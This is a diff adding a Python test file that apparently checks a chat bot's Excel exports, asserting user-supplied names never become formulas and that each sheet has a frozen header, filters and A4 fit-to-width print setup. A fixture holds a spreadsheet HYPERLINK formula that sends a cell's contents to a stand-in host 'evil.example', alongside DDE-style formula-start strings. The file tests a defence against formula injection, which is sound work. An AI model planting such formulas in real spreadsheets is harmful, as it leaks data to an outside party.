@@ -1,0 +1,141 @@
+"""Every workbook the bot writes: user text stays text, real dates and percentages, print setup."""
+
+from __future__ import annotations
+
+import asyncio
+from io import BytesIO
+from pathlib import Path
+
+from openpyxl import load_workbook
+from sqlalchemy import select, update
+from typer.testing import CliRunner
+
+from bot.cli import app
+from bot.db.models import Person
+from bot.db.session import make_engine, make_sessionmaker
+from bot.services import digest, digest_report
+from tests.conftest import FakeClock
+from tests.digest_org import build, local
+from tests.harness import linked_chat, make_router, shipped_content
+
+EVIL = '=HYPERLINK("http://evil.example/?"&E2,"Bấm vào")'
+# Other starts a spreadsheet program treats as a formula or command (DDE: "@", "+", "-").
+RISKY = {"A2": "+84 Bình Hai", "A3": "@SUM(1+1)", "B1": "-2+3 Dũng", "B2": "\t=1+1"}
+
+
+def run(database_url: str, *args: str, **env: str):
+    return CliRunner().invoke(app, list(args), env={"ATGT_DATABASE_URL": database_url, **env})
+
+
+async def _prepare(database_url: str, tmp_path: Path) -> int:
+    """The digest organisation with hostile names (A1 is the formula)."""
+    engine = make_engine(database_url)
+    sessionmaker = make_sessionmaker(engine)
+    try:
+        campaign_id = await build(sessionmaker, tmp_path)
+        async with sessionmaker() as session, session.begin():
+            for code, name in {"A1": EVIL, **RISKY}.items():
+                await session.execute(
+                    update(Person).where(Person.employee_code == code).values(full_name=name)
+                )
+        return campaign_id
+    finally:
+        await engine.dispose()
+
+
+async def _chat_exports(database_url: str) -> dict[str, bytes]:
+    """/baocao, /thongbao_ketqua xlsx and the weekly digest job's workbook."""
+    engine = make_engine(database_url)
+    sessionmaker = make_sessionmaker(engine)
+    clock = FakeClock(local(2026, 11, 12, 20, 0))
+    try:
+        router = make_router(sessionmaker, clock)
+        admin = await linked_chat(router, sessionmaker, clock, "AD1", channel="telegram")
+        await admin.say("/baocao")
+        found = {"/baocao": admin.last[2].document.data}
+        await admin.say("/thongbao_ketqua 2 xlsx")
+        found["/thongbao_ketqua"] = admin.last[1].document.data
+        async with sessionmaker() as session:
+            ((campaign, monday),) = await digest_report.candidates(
+                session, now=clock(), last_week=False
+            )
+            viewer = (
+                await session.execute(select(Person).where(Person.employee_code == "AD1"))
+            ).scalar_one()
+            pending = await digest_report.gather_many(
+                session,
+                campaign=campaign,
+                monday=monday,
+                topics=digest.topic_map(shipped_content()),
+                viewers=[viewer],
+            )
+        ((_, rendered),) = await digest_report.render_many(pending, clock())
+        found["digest"] = rendered.replies[2].document.data
+        return found
+    finally:
+        await engine.dispose()
+
+
+def all_exports(database_url: str, tmp_path: Path) -> dict[str, bytes]:
+    campaign_id = asyncio.run(_prepare(database_url, tmp_path))
+    files = {
+        "invite": ["invite", "create", "--unit", "Sở X/Phòng 1"],
+        "report": ["report", "--unit", "Sở X", "--from", "02/11/2026", "--to", "15/11/2026"],
+        "review": ["report", "review", "--campaign", str(campaign_id)],
+        "broadcast": ["broadcast", "report", "2"],
+    }
+    found = {}
+    for name, args in files.items():
+        path = tmp_path / f"{name}.xlsx"
+        result = run(
+            database_url, *args, "--xlsx", str(path), ATGT_TELEGRAM_BOT_USERNAME="atgt_bot"
+        )
+        assert result.exit_code == 0, result.output
+        found[name] = path.read_bytes()
+    return found | asyncio.run(_chat_exports(database_url))
+
+
+def cells(data: bytes):
+    book = load_workbook(BytesIO(data))
+    for sheet in book.worksheets:
+        for row in sheet.iter_rows():
+            yield from row
+
+
+def test_no_export_turns_a_name_into_a_formula(database_url, tmp_path):
+    exports = all_exports(database_url, tmp_path)
+
+    assert sorted(exports) == sorted(
+        ["invite", "report", "review", "broadcast", "/baocao", "/thongbao_ketqua", "digest"]
+    )
+    for name, data in exports.items():
+        found = list(cells(data))
+        assert [c.coordinate for c in found if c.data_type == "f"] == [], name
+        evil = [c for c in found if c.value == EVIL]
+        assert evil and all(c.data_type == "s" and c.quotePrefix for c in evil), name
+        for risky in RISKY.values():
+            marked = [c for c in found if c.value == risky]
+            assert all(c.quotePrefix for c in marked), (name, risky)
+        plain = [c for c in found if c.value == "Trưởng Một"]
+        assert plain and not any(c.quotePrefix for c in plain), name
+
+
+def test_every_export_has_a_filtered_frozen_header_and_a4_fit_to_width(database_url, tmp_path):
+    exports = all_exports(database_url, tmp_path)
+
+    for name, data in exports.items():
+        for sheet in load_workbook(BytesIO(data)).worksheets:
+            where = (name, sheet.title)
+            assert sheet.freeze_panes == "A2", where
+            assert sheet["A1"].font.bold, where
+            assert int(sheet.page_setup.paperSize) == 9, where  # A4
+            assert sheet.sheet_properties.pageSetUpPr.fitToPage, where
+            assert sheet.page_setup.fitToWidth == 1 and sheet.page_setup.fitToHeight == 0, where
+            assert sheet.print_title_rows == "$1:$1", where
+            widths = [d.width for d in sheet.column_dimensions.values()]
+            assert widths and all(4 <= w <= 62 for w in widths), where
+            if sheet.title != "Tổng hợp":  # key/value sheet: nothing to filter
+                assert (
+                    sheet.auto_filter.ref
+                    == f"A1:{sheet.cell(1, sheet.max_column).column_letter}{sheet.max_row}"
+                ), where
